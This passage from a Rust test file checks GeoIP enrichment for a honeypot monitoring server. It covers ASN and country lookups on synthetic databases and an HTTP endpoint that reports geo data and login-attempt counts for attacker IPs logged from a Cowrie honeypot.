    let (asn_path, country_path) = (dir.join("asn.mmdb"), dir.join("country.mmdb"));
    std::fs::write(&asn_path, asn).unwrap();
    std::fs::write(&country_path, country).unwrap();
    (asn_path, country_path)
}

#[test]
fn geoip_lookup_reads_asn_and_country_databases() {
    let dir = tempfile::tempdir().unwrap();
    let (asn_path, country_path) = test_geoip_files(dir.path());
    let geoip = GeoIp::open_all([&asn_path, &country_path]).unwrap();
    let info = geoip.lookup("198.51.100.9".parse().unwrap());
    assert_eq!(info.asn, Some(64_500));
    assert_eq!(info.as_organization.as_deref(), Some("Example Hosting"));
    assert_eq!(info.country_code.as_deref(), Some("NL"));
    assert_eq!(info.country_name.as_deref(), Some("Netherlands"));
    // In the country network but not the ASN one.
    let info = geoip.lookup("198.51.7.1".parse().unwrap());
    assert_eq!((info.asn, info.country_code.as_deref()), (None, Some("NL")));
    // In neither; and an IPv6 address in IPv4-only databases.
    for ip in ["203.0.113.1", "2001:db8::1"] {
        let info = geoip.lookup(ip.parse::<IpAddr>().unwrap());
        assert_eq!(info, Default::default(), "{ip}");
    }
    let asn_only = GeoIp::open(&asn_path).unwrap().lookup("198.51.100.9".parse().unwrap());
    assert_eq!((asn_only.asn, asn_only.country_code), (Some(64_500), None));
}

#[test]
fn ip_endpoint_adds_geoip_when_configured() {
    let dir = tempfile::tempdir().unwrap();
    let (asn_path, country_path) = test_geoip_files(dir.path());
    let geoip = Arc::new(GeoIp::open_all([&asn_path, &country_path]).unwrap());

    let store_dir = tempfile::tempdir().unwrap();
    let store = Arc::new(Store::open(store_dir.path(), StoreOptions::default()).unwrap());
    fill_synthetic(&store);
    store
        .write_batch(&WriteBatch {
            events: vec![NewEvent {
                src_ip: Some("203.0.113.77".to_owned()),
                ..cowrie_event(
                    100,
                    "cowrie",
                    r#"{"eventid":"cowrie.session.connect","session":"s2","src_ip":"203.0.113.77"}"#.to_owned(),
                )
            }],
            ..WriteBatch::default()
        })
        .unwrap();
    let state = AppState {
        store,
        submitter: Arc::new(common::RecordingSubmitter::new()),
        metrics: Arc::new(String::new),
        config: config(),
        rules: Arc::new(vigil_stix::RuleCatalog::default()),
        jobs: None,
        geoip: Some(geoip),
    };
    let runtime = tokio::runtime::Builder::new_multi_thread().worker_threads(1).enable_all().build().unwrap();
    let listener = runtime.block_on(tokio::net::TcpListener::bind("127.0.0.1:0")).unwrap();
    let addr = listener.local_addr().unwrap();
    let (stop, stopped) = tokio::sync::oneshot::channel::<()>();
    runtime.spawn(vigil_server::serve(listener, state, async move {
        let _ = stopped.await;
    }));
    let agent = ureq::AgentBuilder::new().timeout(Duration::from_secs(60)).build();
    let get = |path: &str| -> Value { agent.get(&format!("http://{addr}{path}")).call().unwrap().into_json().unwrap() };

    let known = get("/api/honeypot/ips/198.51.100.9");
    assert_eq!(
        known["geo"],
        json!({"asn": 64500, "as_organization": "Example Hosting", "country_code": "NL", "country_name": "Netherlands"})
    );
    assert_eq!(known["login_attempts"], 2);
    let unknown = get("/api/honeypot/ips/203.0.113.77");
    assert_eq!(unknown["geo"], Value::Null, "configured, but the databases do not know the address");
    let _ = stop.send(());
}
